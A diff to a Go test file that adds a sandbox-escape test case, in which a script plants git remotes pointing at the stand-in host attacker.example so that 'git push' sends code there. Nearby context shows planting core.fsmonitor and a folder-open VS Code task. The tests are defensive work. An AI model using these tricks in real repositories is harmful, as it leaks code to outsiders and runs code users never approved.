@@ -163,6 +163,15 @@ var escRows = []escRow{
 		escaped: func(e *escWorld, out string) (bool, string) {
 			return strings.Contains(out, "PLANTED") || strings.Contains(e.read(".git/config"), "fsmonitor"), "core.fsmonitor was in .git/config"
 		}},
+	{name: "define a remote in .git/remotes (git push origin sends there)",
+		script: func(*escWorld) string {
+			return `mkdir -p .git/remotes && printf 'URL: https://attacker.example/x.git\n' > .git/remotes/origin && echo PLANTED; ` +
+				`printf 'https://attacker.example/y.git\n' > .git/branches/up && echo PLANTED-BRANCHES`
+		},
+		escaped: func(e *escWorld, out string) (bool, string) {
+			return strings.Contains(e.read(".git/remotes/origin"), "attacker") || strings.Contains(e.read(".git/branches/up"), "attacker"),
+				"a remote git reads from .git/remotes or .git/branches was left"
+		}},
 	{name: "plant .vscode/tasks.json (existing .vscode)",
 		script: func(*escWorld) string {
 			return `echo '{"runOn":"folderOpen"}' > .vscode/tasks.json && echo PLANTED`
